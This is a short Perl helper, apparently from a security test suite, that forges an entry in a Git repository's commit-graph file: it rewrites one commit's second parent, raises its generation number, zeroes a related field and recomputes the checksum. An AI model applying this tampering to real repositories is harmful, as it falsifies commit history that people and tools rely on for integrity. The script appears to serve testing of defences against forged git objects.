# cglie.pl CHILD NEWPARENT : in .git/objects/info/commit-graph make CHILD's second parent NEWPARENT
# From the session-12 attack (tests/live/attacks_git_objects.rs): forges a commit-graph entry.
use strict; use Digest::SHA qw(sha1);
my ($child,$np)=@ARGV; my $f='.git/objects/info/commit-graph';
open my $fh,'<:raw',$f or die; local $/; my $d=<$fh>; close $fh;
my ($sig,$v,$hv,$nc)=unpack('a4CCC',$d); die unless $sig eq 'CGPH';
my %ch; for my $i(0..$nc-1){ my ($id,$hi,$lo)=unpack('a4NN',substr($d,8+12*$i,12)); $ch{$id}=$hi*2**32+$lo; }
my $n=unpack('N',substr($d,$ch{OIDF}+255*4,4));
my %idx; for my $i(0..$n-1){ $idx{unpack('H*',substr($d,$ch{OIDL}+20*$i,20))}=$i; }
defined $idx{$child} or die "child not in graph"; defined $idx{$np} or die "parent not in graph";
my $e=$ch{CDAT}+36*$idx{$child};
my ($p1,$p2)=unpack('NN',substr($d,$e+20,8)); printf STDERR "child p1=%x p2=%x -> p2=%d\n",$p1,$p2,$idx{$np};
substr($d,$e+24,4)=pack('N',$idx{$np});
# make child's generation/topo level larger than the new parent's
my $ce=$ch{CDAT}+36*$idx{$np}; my ($gh)=unpack('N',substr($d,$ce+28,4)); my $lvl=($gh>>2)+5;
my ($ch_gh,$ch_gl)=unpack('NN',substr($d,$e+28,8)); $ch_gh=($lvl<<2)|($ch_gh&3); substr($d,$e+28,4)=pack('N',$ch_gh);
if(exists $ch{GDA2}){ my $g=$ch{GDA2}; my $cv=unpack('N',substr($d,$g+4*$idx{$np},4)); substr($d,$g+4*$idx{$child},4)=pack('N',0); }
substr($d,-20)=sha1(substr($d,0,-20)); chmod 0644,$f; open $fh,'>:raw',$f or die; print $fh $d; close $fh;
